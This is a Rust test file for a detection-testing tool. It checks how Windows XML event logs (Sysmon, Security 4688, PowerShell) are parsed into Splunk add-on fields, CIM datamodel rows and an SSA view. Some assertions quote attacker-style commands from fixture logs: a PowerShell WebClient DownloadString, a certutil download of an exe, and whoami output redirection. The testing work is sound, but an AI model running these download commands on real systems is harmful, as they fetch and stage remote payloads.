//! XmlWinEventLog reading, add-on fields (the built-in apps of firedrill-addons, as a
//! run applies them), CIM rows and the SSA view, on small files written for these
//! tests in the real shape (`tests/fixtures/`).

use firedrill_events::{
    read_events, sniff, ssa_enriched, CimError, Format, ReadError, ReadOutcome, SearchTime,
    SourceMeta,
};
use firedrill_value::{Event, Row, Value, Want};

fn datamodel_rows(dataset: &str, events: &[Event]) -> Result<Vec<Row>, CimError> {
    firedrill_addons::builtin::datamodels().rows(dataset, events)
}

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn read(name: &str) -> ReadOutcome {
    with_addons(read_events(&fixture(name), &SourceMeta::default()).unwrap())
}

/// The events with every field of the built-in apps.
fn with_addons(mut out: ReadOutcome) -> ReadOutcome {
    let addons = firedrill_addons::builtin::get();
    for e in &mut out.events {
        addons.apply(&mut e.fields, &Want::everything());
    }
    out
}

fn s(v: &str) -> Value {
    Value::str(v)
}

/// Asserts every `(field, value)` pair on `e`, naming the first mismatch.
fn assert_fields(e: &Event, expected: &[(&str, &str)]) {
    for (field, value) in expected {
        assert_eq!(e.get(field), &s(value), "field {field}");
    }
}

#[test]
fn messy_file_keeps_every_complete_event_and_reports_the_rest() {
    let bytes = fixture("messy.log");
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.contains("\r\n"), "fixture lost its CRLF line ends");
    assert_eq!(sniff(&bytes), Format::XmlWinEventLog);
    let out = read("messy.log");
    assert_eq!(out.format, Format::XmlWinEventLog);
    assert_eq!(out.events.len(), 3, "skipped: {:?}", out.skipped);

    // The declaration is not junk; the forwarder line and the cut-off event are.
    assert_eq!(out.skipped.len(), 2, "{:?}", out.skipped);
    let junk = &out.skipped[0];
    let first_end = text.find("</Event>").unwrap() + "</Event>".len();
    let second_start = text[first_end..].find("<Event ").unwrap() + first_end;
    assert_eq!(junk.offset as usize, first_end);
    assert_eq!(junk.len as usize, second_start - first_end);
    assert!(
        junk.reason.contains("forwarder restarted"),
        "{}",
        junk.reason
    );
    let cut = &out.skipped[1];
    assert_eq!(cut.offset as usize, text.rfind("<Event ").unwrap());
    assert_eq!((cut.offset + cut.len) as usize, text.len());
    assert!(cut.reason.contains("unterminated"), "{}", cut.reason);

    // `_raw` is the event's text exactly as in the file.
    for e in &out.events {
        assert!(text.contains(e.raw()));
        assert!(e.raw().starts_with("<Event xmlns=") && e.raw().ends_with("</Event>"));
    }

    // A PowerShell script block: a value with CRLF line breaks inside.
    let ps = &out.events[0];
    assert_fields(
        ps,
        &[
            ("EventCode", "4104"),
            (
                "source",
                "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
            ),
            ("sourcetype", "XmlWinEventLog"),
            ("host", "wks-042.lab.example"),
            ("ActivityID", "{5A9D0A66-5E1B-0001-1D4C-9D5A1B5EDA01}"),
            ("UserID", "S-1-5-21-3623811015-3361044348-30300820-1013"),
        ],
    );
    let script = ps.get("ScriptBlockText").to_string();
    assert!(
        script.starts_with("$c = New-Object Net.WebClient\r\nif ($x -lt 3"),
        "{script:?}"
    );
    assert!(script.ends_with("DownloadString('http://192.0.2.7/p') }"));
    // Splunk keeps no field for an empty value (transforms.conf KEEP_EMPTY_VALS = false).
    assert_eq!(ps.get("Path"), &Value::Null);

    // Double-quoted attributes; fractional `_time`.
    let file = &out.events[1];
    assert_fields(
        file,
        &[
            ("EventCode", "11"),
            ("TargetFilename", r"C:\Users\Public\loot.zip"),
            ("file_name", "loot.zip"),
            ("file_path", r"C:\Users\Public\loot.zip"),
            ("action", "created"),
            ("Guid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
        ],
    );
    assert!(
        (file.time() - 1_715_679_660.25).abs() < 1e-6,
        "{}",
        file.time()
    );

    // A repeated Data name is a multivalue field, in document order.
    let ad = &out.events[2];
    assert_eq!(
        ad.get("Properties"),
        &Value::Multi(vec![
            s("%%7688"),
            s("{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}")
        ])
    );
}

#[test]
fn sysmon_process_create_gets_the_sysmon_addon_fields() {
    let out = read("sysmon_1.log");
    assert!(out.skipped.is_empty(), "{:?}", out.skipped);
    let e = &out.events[0];
    assert_fields(
        e,
        &[
            // System, named as the add-on names them.
            ("EventCode", "1"),
            ("EventID", "1"),
            ("Computer", "wks-042.lab.example"),
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventChannel", "Microsoft-Windows-Sysmon/Operational"),
            ("Keywords", "0x8000000000000000"),
            ("Level", "4"),
            ("Opcode", "0"),
            ("Task", "1"),
            ("Version", "5"),
            ("EventRecordID", "771203"),
            ("RecordID", "771203"),
            ("RecordNumber", "771203"),
            ("ProcessID", "2968"),
            ("ThreadID", "3876"),
            ("Name", "Microsoft-Windows-Sysmon"),
            ("Guid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
            ("SystemTime", "2024-05-14T09:21:07.482913600Z"),
            ("UserID", "S-1-5-18"),
            ("host", "wks-042.lab.example"),
            (
                "source",
                "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
            ),
            // EventData, with the text as Windows rendered it: Splunk's add-on does
            // not decode &amp; / &gt; (the content matches on them).
            ("ProcessId", "6412"),
            ("Product", "Microsoft\u{ae} Windows\u{ae} Operating System"),
            (
                "CommandLine",
                r#""C:\Windows\system32\cmd.exe" /c "whoami /all &gt; C:\Users\Public\w.txt &amp; type C:\Users\Public\w.txt""#,
            ),
            // Add-on fields.
            ("process_name", "cmd.exe"),
            ("process_exec", "cmd.exe"),
            ("process_path", r"C:\Windows\System32\cmd.exe"),
            ("process_id", "6412"),
            ("process_guid", "{3F2A1B7C-2D13-6643-6E05-000000000E00}"),
            ("process_current_directory", "C:\\Users\\mlopez\\"),
            ("process_integrity_level", "high"),
            ("original_file_name", "Cmd.Exe"),
            ("parent_process_name", "powershell.exe"),
            ("parent_process_exec", "powershell.exe"),
            (
                "parent_process_path",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ),
            (
                "parent_process",
                r#""powershell.exe" -NoProfile -ExecutionPolicy Bypass"#,
            ),
            ("parent_process_id", "5120"),
            (
                "parent_process_guid",
                "{3F2A1B7C-2D0F-6643-6D05-000000000E00}",
            ),
            ("MD5", "911D039E71583A07320B32BDE22F8E22"),
            ("SHA1", "99AE9C73E9BEE6F9C76D6F4093A9882DF06832CF"),
            (
                "SHA256",
                "BC866CFCDDA37E24DC2634DC282C7A0E6F55209DA17A8FA105B07414C0E7C527",
            ),
            ("IMPHASH", "272245E2988E1E430500B852C4FB5E18"),
            ("user", r"LAB\mlopez"),
            ("dest", "wks-042.lab.example"),
            ("dvc_nt_host", "wks-042.lab.example"),
            ("vendor_product", "Microsoft Sysmon"),
            ("action", "allowed"),
            ("signature_id", "1"),
            ("EventDescription", "Process Create"),
            ("signature", "Process Create"),
            ("event_id", "771203"),
        ],
    );
    assert_eq!(e.get("process"), e.get("CommandLine"));
    assert_eq!(e.get("process_hash"), e.get("Hashes"));
    assert!(
        (e.time() - 1_715_678_467.482_913).abs() < 1e-5,
        "{}",
        e.time()
    );
    let data_xml = e.get("EventData_Xml").to_string();
    assert!(data_xml.starts_with("<Data Name='RuleName'>-</Data>"));
    assert!(data_xml.ends_with("<Data Name='ParentUser'>LAB\\mlopez</Data>"));
    assert!(e
        .get("System_Props_Xml")
        .to_string()
        .starts_with("<Provider Name='Microsoft-Windows-Sysmon'"));
}

#[test]
fn metadata_from_the_test_overrides_what_the_event_says() {
    let meta = SourceMeta {
        source: Some("XmlWinEventLog:Microsoft-Windows-Sysmon/Operational".into()),
        sourcetype: Some("xmlwineventlog".into()),
        host: Some("replay-host".into()),
    };
    let out = with_addons(read_events(&fixture("sysmon_1.log"), &meta).unwrap());
    let e = &out.events[0];
    assert_eq!(e.get("host"), &s("replay-host"));
    assert_eq!(e.get("sourcetype"), &s("xmlwineventlog"));
    // The add-on's dest still comes from the event's Computer.
    assert_eq!(e.get("dest"), &s("wks-042.lab.example"));
}

#[test]
fn security_4688_with_sids_or_resolved_names() {
    let out = read("security_4688.log");
    assert!(
        out.skipped.is_empty(),
        "CRLF between events: {:?}",
        out.skipped
    );
    assert_eq!(out.events.len(), 2);
    let common = [
        ("EventCode", "4688"),
        ("source", "XmlWinEventLog:Security"),
        ("dest", "srv-db-01.lab.example"),
        ("vendor_product", "Microsoft Windows"),
        ("action", "allowed"),
        ("signature", "A new process has been created"),
        ("signature_id", "4688"),
        ("Caller_User_Name", "SRV-DB-01$"),
        ("src_nt_domain", "LAB"),
    ];
    let (sid, named) = (&out.events[0], &out.events[1]);
    assert_fields(sid, &common);
    assert_fields(named, &common);
    assert_fields(
        sid,
        &[
            ("process_name", "certutil.exe"),
            ("process_exec", "certutil.exe"),
            ("new_process_name", "certutil.exe"),
            ("process_path", r"C:\Windows\System32\certutil.exe"),
            (
                "process",
                r"certutil.exe -urlcache -f http://192.0.2.7/a.txt C:\ProgramData\a.exe",
            ),
            // Ids stay as Windows writes them (hex strings), as Splunk shows them.
            ("process_id", "0x1a2c"),
            ("parent_process_id", "0x2f0"),
            ("parent_process_name", "services.exe"),
            ("parent_process_path", r"C:\Windows\System32\services.exe"),
            ("process_integrity_level", "system"),
            ("user_id", "S-1-5-18"),
            // TargetUserName "-" means none: the subject is the user.
            ("user", "SRV-DB-01$"),
        ],
    );
    assert_fields(
        named,
        &[
            ("process_name", "a.exe"),
            ("parent_process_name", "certutil.exe"),
            ("parent_process_id", "0x1a2c"),
            ("process_integrity_level", "high"),
            ("user_id", r"NT AUTHORITY\SYSTEM"),
            ("user", "svc_backup"),
        ],
    );
    assert!((named.time() - 1_715_679_013.5).abs() < 1e-6);
}

fn process_events() -> Vec<Event> {
    let mut events = read("sysmon_1.log").events;
    events.extend(read("security_4688.log").events);
    events.extend(read("messy.log").events);
    events
}

#[test]
fn endpoint_processes_rows_from_sysmon_and_4688() {
    let rows = datamodel_rows("Endpoint.Processes", &process_events()).unwrap();
    assert_eq!(rows.len(), 3, "only Sysmon 1 and 4688 are process launches");
    let sysmon = &rows[0];
    let get = |row: &firedrill_value::Row, k: &str| row.get(k).cloned().unwrap_or_default();
    for (field, value) in [
        ("Processes.process_name", "cmd.exe"),
        // The data_sources file maps ParentImage to parent_process_name; the add-on
        // gives the file name, and that is what the content compares with.
        ("Processes.parent_process_name", "powershell.exe"),
        (
            "Processes.parent_process_path",
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ),
        ("Processes.original_file_name", "Cmd.Exe"),
        ("Processes.dest", "wks-042.lab.example"),
        ("Processes.user", r"LAB\mlopez"),
        ("Processes.process_id", "6412"),
        ("Processes.parent_process_id", "5120"),
        ("Processes.process_integrity_level", "high"),
        ("Processes.vendor_product", "Microsoft Sysmon"),
        ("Processes.action", "allowed"),
    ] {
        assert_eq!(get(sysmon, field), s(value), "sysmon {field}");
    }
    assert!(get(sysmon, "Processes.process_hash")
        .to_string()
        .contains("IMPHASH=272245E2988E1E430500B852C4FB5E18"));
    assert_eq!(
        get(sysmon, "_time").as_num().map(f64::floor),
        Some(1_715_678_467.0)
    );
    assert!(sysmon.keys().all(|k| k.starts_with("Processes.")
        || ["_time", "host", "source", "sourcetype"].contains(&k.as_str())));

    let win = &rows[1];
    for (field, value) in [
        ("Processes.process_name", "certutil.exe"),
        ("Processes.parent_process_name", "services.exe"),
        ("Processes.process_id", "0x1a2c"),
        ("Processes.dest", "srv-db-01.lab.example"),
        ("Processes.vendor_product", "Microsoft Windows"),
        // What 4688 does not carry, the data model fills with "unknown".
        ("Processes.original_file_name", "unknown"),
        ("Processes.process_guid", "unknown"),
        ("Processes.parent_process_guid", "unknown"),
        ("Processes.process_hash", "unknown"),
        ("Processes.process_current_directory", "unknown"),
    ] {
        assert_eq!(get(win, field), s(value), "4688 {field}");
    }
    assert_eq!(
        get(&rows[2], "Processes.user_id"),
        s(r"NT AUTHORITY\SYSTEM")
    );
}

#[test]
fn other_endpoint_datasets_and_unknown_names() {
    let names = firedrill_addons::builtin::datamodels().names();
    for n in [
        "Endpoint.Processes",
        "Endpoint.Filesystem",
        "Endpoint.Registry",
    ] {
        assert!(names.iter().any(|x| x == n), "{n} not in {names:?}");
    }
    let rows = datamodel_rows("Endpoint.Filesystem", &process_events()).unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["Filesystem.file_name"], s("loot.zip"));
    assert_eq!(rows[0]["Filesystem.action"], s("created"));
    match datamodel_rows("Endpoint.Nothing", &[]) {
        Err(CimError::UnknownDataset { name, known }) => {
            assert_eq!(name, "Endpoint.Nothing");
            assert_eq!(known, names);
        }
        other => panic!("expected UnknownDataset, got {other:?}"),
    }
}

#[test]
fn ssa_enriched_view_of_process_events() {
    let rows = ssa_enriched(&process_events());
    assert_eq!(rows.len(), 3, "Sysmon 1 and 4688 only");
    let r = &rows[0];
    assert_eq!(r["process_name"], s("cmd.exe"));
    assert_eq!(r["parent_process_name"], s("powershell.exe"));
    assert_eq!(r["dest_device_id"], s("wks-042.lab.example"));
    assert_eq!(r["dest_device_user"], s(r"LAB\mlopez"));
    assert_eq!(r["event_id"], s("1"));
    assert_eq!(
        r["_time"],
        Value::Num(1_715_678_467_483.0),
        "epoch milliseconds"
    );
    assert!(!r["_tenant"].is_null());
    assert!(r["process"]
        .to_string()
        .starts_with(r#""C:\Windows\system32\cmd.exe" /c"#));
    let w = &rows[1];
    assert_eq!(w["process_name"], s("certutil.exe"));
    assert_eq!(w["dest_user_id"], s("S-1-5-18"));
    assert_eq!(w["event_id"], s("4688"));
}

#[test]
fn sourcetype_picks_the_reader_and_binary_is_refused() {
    // Junk before the first event: sniffing cannot be sure, the sourcetype is.
    let mut bytes = b"exported by wevtutil\r\n".to_vec();
    bytes.extend(fixture("sysmon_1.log"));
    let meta = SourceMeta {
        sourcetype: Some("XmlWinEventLog:Microsoft-Windows-Sysmon/Operational".into()),
        ..SourceMeta::default()
    };
    let out = with_addons(read_events(&bytes, &meta).unwrap());
    assert_eq!(out.format, Format::XmlWinEventLog);
    assert_eq!(out.events.len(), 1);
    assert_eq!(out.skipped.len(), 1);
    assert_eq!(out.skipped[0].offset, 0);

    let binary = [0u8, 159, 146, 150, 0, 1, 2, 3];
    match read_events(&binary, &SourceMeta::default()) {
        Err(e @ ReadError::UnsupportedFormat { .. }) => {
            assert!(e.to_string().contains("no reader"), "{e}")
        }
        other => panic!("expected UnsupportedFormat, got {other:?}"),
    }
}
